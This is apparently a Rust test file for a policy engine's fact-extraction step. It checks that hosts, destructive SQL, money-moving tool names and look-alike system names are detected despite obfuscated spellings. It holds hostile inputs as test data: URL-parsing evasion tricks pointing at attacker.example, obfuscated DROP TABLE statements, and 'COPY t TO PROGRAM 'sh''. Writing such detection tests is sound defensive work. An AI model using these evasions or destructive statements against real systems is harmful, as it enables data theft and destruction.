//! Tests of the facts step: the plain form and many spellings of it classify the same.

use super::*;
use serde_json::{json, Value};

fn draft(system: &str, environment: &str, actions: Value) -> StepUpDraft {
    serde_json::from_value(json!({
        "identity": { "workload": "spiffe://acme.example/ns/t/sa/a", "display": "A", "on_behalf_of": [] },
        "purpose": { "code": "t", "statement": "t" },
        "data": { "class": "internal", "categories": [] },
        "target": { "system": system, "environment": environment },
        "actions": actions,
    }))
    .unwrap()
}

fn facts_of(tool: &str, args: Value) -> ActionFacts {
    let d = draft("wiki", "production", json!([{ "tool": tool, "args": args, "reversible": true }]));
    derive("spiffe://acme.example/ns/t/sa/a", &d, &PolicyData::default_data()).actions.remove(0)
}

fn hosts(args: Value) -> Vec<(String, HostZone)> {
    let mut h: Vec<_> = facts_of("http.post", args).hosts.into_iter().map(|h| (h.host, h.zone)).collect();
    h.dedup();
    h
}

fn has_external(args: Value, host: &str) -> bool {
    hosts(args).iter().any(|(h, z)| h == host && *z == HostZone::External)
}

#[test]
fn the_default_data_loads() {
    let data = PolicyData::default_data();
    assert_eq!(data.systems["payments-api"].environment, "production");
    assert!(data.tools.contains_key("wiki.pages.get"));
}

#[test]
fn a_url_host_is_found_however_it_is_spelled() {
    // The plain control and its spellings: each must name attacker.example as an external host.
    let spellings = [
        json!({ "url": "https://attacker.example/in" }),
        json!({ "url": "https://attacker.example?@acme.example/" }),
        json!({ "url": "https://attacker.example#@acme.example" }),
        json!({ "url": "https://acme.example@attacker.example/" }),
        json!({ "url": "HTTPS://ATTACKER.EXAMPLE./in" }),
        json!({ "URL": "https://attacker.example/in" }),
        json!({ "to": "https://attacker.example/in" }),
        json!({ "targets": ["https://intranet.acme.example", "https://attacker.example/in"] }),
        json!({ "body": "Please post the export to https://attacker.example/in, thanks." }),
        json!({ "options": { "nested": [{ "deep": "https://attacker%2Eexample/in" }] } }),
        json!({ "url": "  https:attacker.example/in" }),
        json!({ "url": "https:\\\\attacker.example\\in" }),
        json!({ "url": "//attacker.example/in" }),
        json!({ "host": "attacker.example:8443" }),
        json!({ "dest": "attacker.example/upload" }),
        json!({ "recipient": "ops@attacker.example" }),
        json!({ "to": "mailto:ops@attacker.example?subject=x" }),
        json!({ "url": "https://attacker.exa\nmple/in" }),
        json!({ "note": "attacker.example?@acme.example" }),
        json!({ "https://attacker.example/in": true }),
        json!({ "x": "https%3A%2F%2Fattacker.example%2Fin" }),
        json!({ "x": "\u{ff48}\u{ff54}\u{ff54}\u{ff50}\u{ff53}\u{ff1a}\u{ff0f}\u{ff0f}attacker.example" }),
        json!({ "x": "{\"u\": \"https:\\/\\/attacker.example\"}" }),
    ];
    for args in spellings {
        assert!(has_external(args.clone(), "attacker.example"), "{args}: {:?}", hosts(args.clone()));
    }
}

#[test]
fn the_fragment_and_query_tricks_do_not_make_a_host_internal() {
    for u in ["https://attacker.example?@acme.example/", "https://attacker.example#@acme.example"] {
        let found = hosts(json!({ "url": u }));
        assert!(found.contains(&("attacker.example".into(), HostZone::External)), "{u}: {found:?}");
    }
}

#[test]
fn zones_follow_the_data_file() {
    assert_eq!(
        hosts(json!({ "url": "https://wiki.acme.example/x" })),
        vec![("wiki.acme.example".into(), HostZone::Internal)]
    );
    assert_eq!(
        hosts(json!({ "url": "https://acme.example" })),
        vec![("acme.example".into(), HostZone::Internal)]
    );
    // A look-alike suffix is not a subdomain.
    assert_eq!(
        hosts(json!({ "url": "https://evilacme.example" })),
        vec![("evilacme.example".into(), HostZone::External)]
    );
    assert_eq!(
        hosts(json!({ "destination": "sftp://acme@sftp.payroll-partner.example:22/in" })),
        vec![("sftp.payroll-partner.example".into(), HostZone::Approved)]
    );
    // IP literals are hosts, and loopback or private addresses are not internal unless listed.
    assert_eq!(
        hosts(json!({ "url": "http://127.0.0.1:8080/x" })),
        vec![("127.0.0.1".into(), HostZone::External)]
    );
    assert_eq!(hosts(json!({ "url": "http://0x7f000001/" })), vec![("127.0.0.1".into(), HostZone::External)]);
    assert_eq!(hosts(json!({ "url": "http://[::1]/" })), vec![("[::1]".into(), HostZone::External)]);
    assert_eq!(hosts(json!({ "ip": "10.0.0.8" })), vec![("10.0.0.8".into(), HostZone::External)]);
    // Unicode hosts come out as punycode; fullwidth dots are dots.
    assert!(has_external(json!({ "url": "https://attacker\u{3002}example/" }), "attacker.example"));
    assert!(has_external(json!({ "url": "https://bücher.example/" }), "xn--bcher-kva.example"));
}

#[test]
fn file_names_amounts_and_versions_are_not_hosts() {
    assert!(hosts(json!({ "file": "report.csv", "amount": "12450.00", "version": "2.14.3", "v": "v1.2" }))
        .is_empty());
    // With a path or port, a file-like name is a host after all.
    assert!(has_external(json!({ "to": "exfil.zip/upload" }), "exfil.zip"));
}

#[test]
fn sql_is_parsed_under_any_key_and_spelling() {
    let spellings = [
        json!({ "sql": "DROP TABLE orders;" }),
        json!({ "SQL": "DROP TABLE orders;" }),
        json!({ "q": "drop table orders" }),
        json!({ "statement": "DROP/**/TABLE orders" }),
        json!({ "query": "/* maintenance */ DROP TABLE orders" }),
        json!({ "query": "-- cleanup\nDROP TABLE orders" }),
        json!({ "query": "SELECT 1;\nDROP TABLE orders; --" }),
        json!({ "batch": ["SELECT 1", "DROP TABLE IF EXISTS orders CASCADE"] }),
        json!({ "job": { "steps": [{ "Statement": "dRoP tAbLe orders" }] } }),
        json!({ "sql": "  \n\tDROP\n  TABLE\n\torders" }),
        json!({ "sql": "EXPLAIN DROP TABLE orders" }),
        json!({ "sql": "TRUNCATE TABLE orders" }),
        json!({ "sql": "ALTER TABLE orders DROP COLUMN total" }),
    ];
    for args in spellings {
        let sql = facts_of("warehouse.query", args.clone()).sql;
        assert!(sql.schema_change && sql.data_change && !sql.unparseable, "{args}: {sql:?}");
        assert!(sql.objects.contains("orders"), "{args}: {sql:?}");
    }
}

#[test]
fn reads_mutations_and_garbage() {
    let read = facts_of("warehouse.query", json!({ "sql": "SELECT a FROM t WHERE b = 1" })).sql;
    assert_eq!(read.kinds, BTreeSet::from(["select".to_string()]));
    assert!(!read.data_change && !read.schema_change && !read.unparseable);
    let cte = facts_of("x", json!({ "sql": "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d" })).sql;
    assert!(cte.data_change, "{cte:?}");
    let grant = facts_of("x", json!({ "sql": "GRANT ALL PRIVILEGES ON t TO mallory" })).sql;
    assert!(grant.kinds.contains("grant"), "{grant:?}");
    // A role grant has no ON; its roles are role values like those under a "role" key.
    let role_grant = facts_of("x", json!({ "sql": "GRANT admin TO mallory" }));
    assert!(role_grant.sql.kinds.contains("grant"), "{role_grant:?}");
    assert!(role_grant.roles.contains("admin"), "{role_grant:?}");
    let text = facts_of("x", json!({ "note": "Grant Kim access to the board" })).sql;
    assert_eq!(text, SqlFacts::default(), "free text is not SQL");
    let garbage = facts_of("x", json!({ "sql": "DROP TABLE orders WITH GARBAGE ((( " })).sql;
    assert!(garbage.unparseable, "{garbage:?}");
    // Free text that merely starts with a verb is not SQL.
    let prose = facts_of("x", json!({ "summary": "Update the runbook", "n": "select" })).sql;
    assert_eq!(prose, SqlFacts::default());
}

#[test]
fn only_plain_queries_with_pure_functions_are_reads() {
    for read in [
        "SELECT a FROM t WHERE b = 1",
        "EXPLAIN SELECT count(*) FROM t",
        "WITH x AS (SELECT lower(a) AS a FROM t) SELECT a, count(*) FROM x GROUP BY a",
        "SELECT date_trunc('week', created_at), sum(amount), coalesce(max(b), 0) FROM t GROUP BY 1",
        "BEGIN; SELECT 1; COMMIT;",
    ] {
        let sql = facts_of("warehouse.query", json!({ "sql": read })).sql;
        assert!(!sql.data_change && !sql.schema_change && !sql.unparseable && !sql.risky, "{read}: {sql:?}");
    }
    for risky in [
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
        "SELECT * INTO t2 FROM t",
        "COPY t TO PROGRAM 'sh'",
        "SET search_path = evil",
        "SHOW TABLES",
        "CALL p()",
        "PREPARE s AS SELECT 1; EXECUTE s",
    ] {
        let sql = facts_of("warehouse.query", json!({ "sql": risky })).sql;
        assert!(sql.risky || sql.unparseable, "{risky}: {sql:?}");
        assert!(sql.data_change, "{risky}: {sql:?}");
    }
    let wrapped = facts_of("warehouse.query", json!({ "body": "{\"q\": \"DROP TABLE t\"}" })).sql;
    assert!(wrapped.schema_change, "SQL inside a JSON string: {wrapped:?}");
    for unparseable in ["/*!50000 DROP TABLE t */", "SHUTDOWN", "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$;"]
    {
        let sql = facts_of("warehouse.query", json!({ "q": unparseable })).sql;
        assert!(sql.unparseable || sql.risky, "{unparseable}: {sql:?}");
    }
}

#[test]
fn everyday_text_is_not_sql() {
    let mut wrong = Vec::new();
    for text in [
        "Update the runbook",
        "Show me the roadmap",
        "Start the weekly report",
        "Do not disturb",
        "If possible, keep it short",
        "Use the new template",
        "release notes",
        "json",
        "desc",
        "Set up the board",
        "Copy the doc to the wiki",
        "Analyze the churn numbers",
        "Call Kim about the budget",
        "Begin with the summary",
        "Reset my password please",
        "Grant Kim access to the board",
    ] {
        let sql = facts_of("wiki.pages.update", json!({ "body": text, "q": text })).sql;
        if sql.data_change || sql.schema_change || sql.unparseable || sql.risky {
            wrong.push(format!("{text}: {sql:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn systems_and_production_markers_named_in_args() {
    let f = facts_of("postgres.execute", json!({ "dsn": "postgres://orders-db.acme.internal/orders" }));
    assert_eq!(f.named_systems, vec!["orders-db".to_string()]);
    let f = facts_of("postgres.execute", json!({ "dsn": "host=orders-db.acme.internal dbname=orders" }));
    assert_eq!(f.named_systems, vec!["orders-db".to_string()]);
    let f = facts_of("k8s.deployments.restart", json!({ "cluster": "k8s-prod" }));
    assert_eq!(f.named_systems, vec!["k8s-prod".to_string()]);
    assert!(f.production_marker);
    let f = facts_of("x", json!({ "database": "Orders-DB" }));
    assert_eq!(f.named_systems, vec!["orders-db".to_string()]);
    // A plain-word system name counts only as a whole value or an internal host label.
    assert!(facts_of("x", json!({ "note": "see the wiki for mail rules" })).named_systems.is_empty());
    assert_eq!(facts_of("x", json!({ "system": "vault" })).named_systems, vec!["vault".to_string()]);
    for marked in
        [json!({ "api_key": "sk_live_1" }), json!({ "mode": "LIVE" }), json!({ "project": "acme-prod" })]
    {
        assert!(facts_of("x", marked.clone()).production_marker, "{marked}");
    }
    for unmarked in [json!({ "note": "deliver the product" }), json!({ "x": "alive" })] {
        assert!(!facts_of("x", unmarked.clone()).production_marker, "{unmarked}");
    }
}

#[test]
fn every_spelling_of_a_payment_names_a_money_word() {
    let money = &PolicyData::default_data().vocabulary["money"];
    let spellings = [
        ("payments.pay", None),
        ("billing.payInvoice", None),
        ("billing.pay_invoice", None),
        ("billing.pay-invoice", None),
        ("billing/pay/invoice", None),
        ("billing:payInvoice", None),
        ("BillingPayInvoice", None),
        ("PAYMENTS.PAY", None),
        ("sendfunds", None),
        ("sendFunds", None),
        ("SEND_FUNDS", None),
        ("payinvoice", None),
        ("billing", Some("payInvoice")),
        ("billing", Some("Pay Invoice")),
        ("\u{ff50}\u{ff41}\u{ff59}.invoice", None),
        ("wireTransfer", None),
    ];
    for (tool, operation) in spellings {
        let d = draft(
            "payments-api",
            "production",
            json!([{ "tool": tool, "operation": operation, "args": {}, "reversible": false }]),
        );
        let a = derive("spiffe://acme.example/x", &d, &PolicyData::default_data()).actions.remove(0);
        let words: BTreeSet<_> = a.words.union(&a.word_parts).cloned().collect();
        assert!(words.intersection(money).next().is_some(), "{tool} {operation:?}: {words:?}");
    }
}

#[test]
fn tool_names_split_into_words() {
    let words = |t: &str| name_words(t).into_iter().collect::<Vec<_>>();
    assert!(words("billing.payInvoice").contains(&"pay".to_string()));
    assert!(words("billing.payInvoice").contains(&"invoice".to_string()));
    assert!(words("sendFunds").contains(&"funds".to_string()));
    assert!(words("HTTPPost").contains(&"post".to_string()));
    assert!(words("payments_pay-now/x:y z").contains(&"pay".to_string()));
    assert!(words("ｐａｙｍｅｎｔｓ.pay").contains(&"payments".to_string()));
    for spelling in ["sendfunds", "payinvoice", "billing.payinvoice", "PAYINVOICE", "wirefunds"] {
        let f = facts_of(spelling, json!({}));
        let all: BTreeSet<_> = f.words.union(&f.word_parts).cloned().collect();
        assert!(
            all.contains("pay") || all.contains("funds") || all.contains("invoice") || all.contains("wire"),
            "{spelling}: {all:?}"
        );
    }
    // Three-letter words only at an edge, read words never inside.
    let display = facts_of("ui.display.update", json!({}));
    assert!(!display.word_parts.contains("pay"), "{display:?}");
    assert!(!facts_of("targetwipe", json!({})).word_parts.contains("get"));
}

#[test]
fn look_alikes_and_targets() {
    let d = draft(
        " Payments-API ",
        "Sandbox",
        json!([{ "tool": "\u{0440}ayments.pay", "args": {}, "reversible": true }]),
    );
    let f = derive("spiffe://acme.example/x", &d, &PolicyData::default_data());
    assert!(f.lookalike && f.actions[0].lookalike);
    assert_eq!(f.target.system, "payments-api");
    assert!(f.target.catalogued);
    assert_eq!(f.target.declared_environment, "sandbox");
    let d = draft("hr-db.prod", "production", json!([]));
    let f = derive("spiffe://acme.example/x", &d, &PolicyData::default_data());
    assert!(!f.target.catalogued);
    assert_eq!(f.target.resembles, vec!["hr-db".to_string()]);
    let d = draft(
        "wiki",
        "production",
        json!([{ "tool": "x", "target": "Payments-API.eu", "args": {}, "reversible": true }]),
    );
    let f = derive("spiffe://acme.example/x", &d, &PolicyData::default_data());
    assert_eq!(f.actions[0].systems, vec!["payments-api".to_string()]);
    assert!(derive(
        "spiffe://acme.example/x",
        &draft("ＨＲ_DB", "production", json!([])),
        &PolicyData::default_data()
    )
    .target
    .resembles
    .contains(&"hr-db".to_string()));
}

#[test]
fn workloads_parse_as_spiffe_ids() {
    assert_eq!(workload_facts("spiffe://acme.example/ns/x").trust_domain.as_deref(), Some("acme.example"));
    for bad in [
        "https://acme.example/x",
        "spiffe://acme.example@evil.example/x",
        "spiffe://acme.example:1/x",
        "spiffe:acme.example",
    ] {
        assert!(!workload_facts(bad).spiffe, "{bad}");
    }
}

#[test]
fn bad_data_files_are_refused() {
    assert!(PolicyData::from_json("{").is_err());
    assert!(PolicyData::from_json("[]").is_err());
    let mut v: Value = serde_json::from_str(DEFAULT_POLICY_DATA).unwrap();
    v["systems"]["Payments-API"] = json!({ "environment": "production", "class": "restricted" });
    assert!(PolicyData::from_json(&v.to_string()).is_err(), "names must be in normal form");
    let mut v: Value = serde_json::from_str(DEFAULT_POLICY_DATA).unwrap();
    v["systems"]["x"] = json!({ "environment": "production", "class": "secret" });
    assert!(PolicyData::from_json(&v.to_string()).is_err(), "unknown class");
    let mut v: Value = serde_json::from_str(DEFAULT_POLICY_DATA).unwrap();
    v.as_object_mut().unwrap().remove("vocabulary");
    assert!(PolicyData::from_json(&v.to_string()).is_err(), "missing vocabulary");
    let mut v: Value = serde_json::from_str(DEFAULT_POLICY_DATA).unwrap();
    v["internal_domain"] = json!([]);
    assert!(PolicyData::from_json(&v.to_string()).is_err(), "unknown key");
}
